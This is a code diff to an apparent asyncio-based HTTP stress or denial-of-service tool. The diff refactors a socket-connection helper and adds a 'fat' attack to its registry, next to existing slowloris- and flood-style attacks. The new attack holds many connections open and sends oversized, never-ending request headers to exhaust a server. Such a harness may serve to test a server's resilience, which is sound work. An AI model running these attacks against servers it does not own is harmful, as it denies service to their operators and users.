@@ -43,9 +43,11 @@ class Siege:
         loop = asyncio.get_running_loop()
         loop.add_reader(0, ended)
 
-    async def connect(self, source: str = "") -> socket.socket:
+    async def connect(self, source: str = "", receive_bytes: int = 0) -> socket.socket:
         sock = socket.socket()
         sock.setblocking(False)
+        if receive_bytes:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
         if source:
             sock.bind((source, 0))
         await asyncio.get_running_loop().sock_connect(sock, self.place)
@@ -147,9 +149,7 @@ async def mutes(siege: Siege) -> Told:
     socks = []
     for _ in range(siege.number):
         with suppress(OSError):
-            sock = await siege.connect()
-            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
-            socks.append(sock)
+            socks.append(await siege.connect(receive_bytes=2048))
     pushing = [asyncio.ensure_future(_push(loop, sock, request)) for sock in socks]
     await siege.ready()
     await siege.over.wait()
@@ -159,6 +159,26 @@ async def mutes(siege: Siege) -> Told:
     for sock in socks:
         sock.close()
     return {"held": len(socks), "ended": sum(isinstance(one, OSError) for one in ended)}
+
+
+async def fat(siege: Siege) -> Told:
+    """Heads that grow and grow, each line within its limit, and never end."""
+    line = b"X: " + b"y" * 8000 + b"\r\n"
+    loop = asyncio.get_running_loop()
+    socks = [await siege.connect() for _ in range(siege.number)]
+    ended = 0
+    for sock in socks:
+        try:
+            await loop.sock_sendall(sock, b"GET / HTTP/1.1\r\nHost: a\r\n")
+            for _ in range(90):
+                await loop.sock_sendall(sock, line)
+        except OSError:
+            ended += 1
+    await siege.ready()
+    await siege.over.wait()
+    for sock in socks:
+        sock.close()
+    return {"held": len(socks), "ended": ended}
 
 
 async def _push(loop: asyncio.AbstractEventLoop, sock: socket.socket, raw: bytes) -> None:
@@ -264,7 +284,7 @@ async def keys(siege: Siege) -> Told:
 
 
 ATTACKS: dict[str, Attack] = {
-    one.__name__: one for one in (idle, loris, flood, mutes, monsters, talkers, cursors, keys)
+    one.__name__: one for one in (idle, loris, flood, mutes, fat, monsters, talkers, cursors, keys)
 }
 
 
